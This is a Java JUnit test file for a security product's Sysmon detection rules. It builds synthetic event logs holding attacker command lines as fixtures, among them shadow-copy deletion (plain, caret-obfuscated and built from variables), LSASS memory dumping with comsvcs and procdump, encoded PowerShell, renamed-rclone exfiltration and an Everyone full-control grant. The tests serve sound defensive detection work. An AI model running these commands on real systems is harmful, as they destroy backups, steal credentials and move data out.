package io.cybershield.shield.gateway.triage.rules;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Set;

import static io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.fired;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.firedAlone;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.primaryTechniques;
import static org.assertj.core.api.Assertions.assertThat;

/** Sysmon process, access, registry and file rules (winlogbeat JSON and XML). */
class SysmonRulesTest {

  private static String process(String image, String commandLine, String parent) {
    return "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":1,"
        + "\"provider_name\":\"Microsoft-Windows-Sysmon\",\"computer_name\":\"WS-042\",\"event_data\":{"
        + "\"Image\":\"" + json(image) + "\",\"CommandLine\":\"" + json(commandLine) + "\",\"ParentImage\":\""
        + json(parent) + "\",\"User\":\"CORP\\\\alice\"}}}";
  }

  private static String json(String text) {
    return text.replace("\\", "\\\\").replace("\"", "\\\"");
  }

  @Test
  void encodedPowerShellInItsAbbreviatedAndSlashForms() {
    String blob = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    for (String flag : List.of("-enc", "-e", "-ec", "/enc", "-EncodedCommand", "-en")) {
      assertThat(firedAlone(SYSMON, process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "powershell.exe -nop " + flag + " " + blob, "C:\\Windows\\explorer.exe")))
          .as(flag).contains("shield-proc-exec-001");
    }
  }

  @Test
  void shadowCopyDeletionIsRansomwareButListingAndCreatingAreNot() {
    assertThat(firedAlone(SYSMON, process("C:\\Windows\\System32\\vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\cmd.exe")))
        .contains("shield-proc-impact-001");
    assertThat(primaryTechniques(SYSMON, process("C:\\Windows\\System32\\wbadmin.exe",
        "wbadmin delete catalog -quiet", "C:\\Windows\\System32\\cmd.exe"))).contains("T1490");
    List<Set<String>> backups = fired(SYSMON,
        process("C:\\Windows\\System32\\vssadmin.exe", "vssadmin list shadows", "C:\\Windows\\System32\\cmd.exe"),
        process("C:\\Windows\\System32\\vssadmin.exe", "vssadmin create shadow /for=C:",
            "C:\\Program Files\\Veeam\\Backup and Replication\\Veeam.Backup.Service.exe"),
        process("C:\\Windows\\System32\\wbadmin.exe", "wbadmin start backup -backupTarget:E: -include:C: -quiet",
            "C:\\Windows\\System32\\svchost.exe"));
    assertThat(backups).allMatch(Set::isEmpty);
  }

  @Test
  void caretObfuscatedCommandsAreSeen() {
    assertThat(firedAlone(SYSMON, process("C:\\Windows\\System32\\cmd.exe",
        "cmd /c v^s^s^a^d^m^i^n delete shadows /all", "C:\\Windows\\explorer.exe")))
        .contains("shield-proc-evasion-002");
  }

  @Test
  void lsassDumpWithComsvcsAndProcdump() {
    assertThat(firedAlone(SYSMON, process("C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
        "C:\\Windows\\System32\\cmd.exe"))).contains("shield-proc-cred-002");
    assertThat(firedAlone(SYSMON, process("C:\\Tools\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe o.dmp",
        "C:\\Windows\\System32\\cmd.exe"))).contains("shield-proc-cred-002");
  }

  @Test
  void lsassAccessBySomethingOtherThanTheSystem() {
    String access = "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":10,"
        + "\"event_data\":{\"SourceImage\":\"C:\\\\Users\\\\Public\\\\x.exe\",\"TargetImage\":"
        + "\"C:\\\\Windows\\\\system32\\\\lsass.exe\",\"GrantedAccess\":\"0x1010\",\"CallTrace\":"
        + "\"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d4c4|UNKNOWN(00000000001A0000)\"}}}";
    assertThat(firedAlone(SYSMON, access)).contains("shield-sysmon-cred-001");
    String defender = access.replace("C:\\\\Users\\\\Public\\\\x.exe",
        "C:\\\\ProgramData\\\\Microsoft\\\\Windows Defender\\\\Platform\\\\4.18\\\\MsMpEng.exe");
    assertThat(firedAlone(SYSMON, defender)).isEmpty();
  }

  @Test
  void webServerSpawningWhoamiButNotAnAdminTypingIt() {
    assertThat(firedAlone(SYSMON, process("C:\\Windows\\System32\\whoami.exe", "whoami /all",
        "C:\\Windows\\System32\\inetsrv\\w3wp.exe"))).contains("shield-proc-disc-001");
    assertThat(firedAlone(SYSMON, process("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c powershell -nop -c \"iex $x\"",
        "C:\\Windows\\System32\\inetsrv\\w3wp.exe"))).contains("shield-proc-persist-002");
    assertThat(firedAlone(SYSMON, process("C:\\Windows\\System32\\whoami.exe", "whoami",
        "C:\\Windows\\System32\\cmd.exe"))).isEmpty();
  }

  @Test
  void runKeyPersistenceToAUserFolder() {
    String registry = "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":13,"
        + "\"event_data\":{\"EventType\":\"SetValue\",\"TargetObject\":\"HKU\\\\S-1-5-21-1\\\\Software\\\\Microsoft"
        + "\\\\Windows\\\\CurrentVersion\\\\Run\\\\updater\",\"Details\":\"C:\\\\Users\\\\bob\\\\AppData\\\\Roaming"
        + "\\\\upd.exe\",\"Image\":\"C:\\\\Windows\\\\System32\\\\reg.exe\"}}}";
    assertThat(firedAlone(SYSMON, registry)).contains("shield-sysmon-persist-001");
  }

  @Test
  void ransomNoteDroppedOnAShare() {
    String file = "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":11,"
        + "\"event_data\":{\"Image\":\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\svc.exe\","
        + "\"TargetFilename\":\"C:\\\\Shares\\\\Finance\\\\HOW_TO_DECRYPT.txt\"}}}";
    assertThat(primaryTechniques(SYSMON, file)).contains("T1486");
  }

  @Test
  void everydayProcessesAreNotFlagged() {
    List<Set<String>> benign = fired(SYSMON,
        process("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe --type=renderer",
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
        process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\SystemTemp\\inventory.ps1",
            "C:\\Windows\\CCM\\CcmExec.exe"),
        process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files (x86)\\Microsoft Intune "
                + "Management Extension\\Policies\\Scripts\\detect.ps1\"",
            "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe"),
        process("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all", "C:\\Windows\\System32\\cmd.exe"),
        process("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
            "C:\\Windows\\System32\\services.exe"));
    assertThat(benign).allMatch(Set::isEmpty);
  }

  // ---------------------------------------------------------------- round 2 (lines written here)

  private static String process(String image, String commandLine) {
    return "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":\"1\","
        + "\"provider_name\":\"Microsoft-Windows-Sysmon\",\"event_data\":{\"Image\":\""
        + image.replace("\\", "\\\\") + "\",\"CommandLine\":\"" + commandLine.replace("\\", "\\\\") + "\"}}}";
  }

  @Test
  void renamedRcloneAndEveryoneFullControl() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Users\\Public\\svc.exe",
        "svc.exe sync D:\\Projects pcloud-x:dump --transfers 8 -q"))).contains("shield-proc-exfil-001");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Windows\\System32\\icacls.exe",
        "icacls E:\\ /grant Everyone:(OI)(CI)F /T /C /Q"))).contains("shield-proc-evasion-050");
  }

  @Test
  void narrowIcaclsGrantsAndLocalCopiesStayQuiet() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Windows\\System32\\icacls.exe",
        "icacls C:\\App\\logs /grant svc_app:(OI)(CI)M"))).isEmpty();
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Windows\\System32\\robocopy.exe",
        "robocopy D:\\Data E:\\Mirror /MIR"))).isEmpty();
  }

  private static String fileCreate(String image, String target) {
    return "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":\"11\","
        + "\"provider_name\":\"Microsoft-Windows-Sysmon\",\"event_data\":{\"Image\":\""
        + image.replace("\\", "\\\\") + "\",\"TargetFilename\":\"" + target.replace("\\", "\\\\") + "\"}}}";
  }

  @Test
  void documentsRewrittenWithAnExtraExtensionButNotTemporaryCopies() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, fileCreate("C:\\ProgramData\\upd\\u.exe",
        "E:\\Shares\\HR\\salaries.xlsx.kr4k3n"))).contains("shield-file-impact-050");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, fileCreate("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
        "E:\\Shares\\HR\\salaries.xlsx.tmp"))).isEmpty();
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, fileCreate("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "C:\\Users\\kim\\Downloads\\report.pdf.crdownload"))).isEmpty();
  }

  @Test
  void shareDiscoveryWrittenWithExtraSpaces() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Windows\\System32\\net.exe",
        "net   view \\\\FILES-2 /all"))).contains("shield-proc-disc-007");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Windows\\System32\\net.exe", "net use Z: \\\\FILES-2\\home")))
        .doesNotContain("shield-proc-disc-007");
  }

  private static String connection(String image, String ip, String port) {
    return "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":3,"
        + "\"provider_name\":\"Microsoft-Windows-Sysmon\",\"computer_name\":\"WS-042\",\"event_data\":{"
        + "\"Image\":\"" + json(image) + "\",\"DestinationIp\":\"" + ip + "\",\"DestinationPort\":\"" + port
        + "\",\"Protocol\":\"tcp\"}}}";
  }

  @Test
  void tempBinaryOnAnOddPortAndPowercfgKeepingTheHostAwake() {
    assertThat(firedAlone(SYSMON, connection("C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe", "203.0.113.66", "4444")))
        .contains("shield-sysmon-c2-020");
    assertThat(firedAlone(SYSMON, connection("C:\\Users\\bob\\AppData\\Local\\Temp\\setup.exe", "203.0.113.66", "443")))
        .doesNotContain("shield-sysmon-c2-020");
    assertThat(firedAlone(SYSMON, connection("C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe", "10.1.1.5", "8080")))
        .doesNotContain("shield-sysmon-c2-020");
    assertThat(firedAlone(SYSMON, process("C:\\Windows\\System32\\powercfg.exe",
        "powercfg /hibernate off & powercfg /change standby-timeout-ac 0", "C:\\Windows\\System32\\cmd.exe")))
        .contains("shield-proc-impact-020");
    assertThat(firedAlone(SYSMON, process("C:\\Windows\\System32\\powercfg.exe", "powercfg /list",
        "C:\\Windows\\System32\\cmd.exe"))).doesNotContain("shield-proc-impact-020");
  }

  @Test
  void shadowDeletionBuiltFromDelayedExpansionVariables() {
    String line = process("C:\\Windows\\System32\\cmd.exe",
        "cmd /V:ON /C \"set a=vss&&set b=admin&&!a!!b! DeLeTe ShAdOwS /All /Quiet\"", "C:\\Users\\bob\\x.exe");
    assertThat(firedAlone(SYSMON, line)).contains("shield-proc-impact-021", "shield-proc-evasion-020");
    assertThat(firedAlone(SYSMON, process("C:\\Windows\\System32\\cmd.exe",
        "cmd /V:ON /C \"for %f in (*.log) do set last=%f\"", "C:\\Windows\\explorer.exe")))
        .doesNotContain("shield-proc-evasion-020", "shield-proc-impact-021");
  }
}
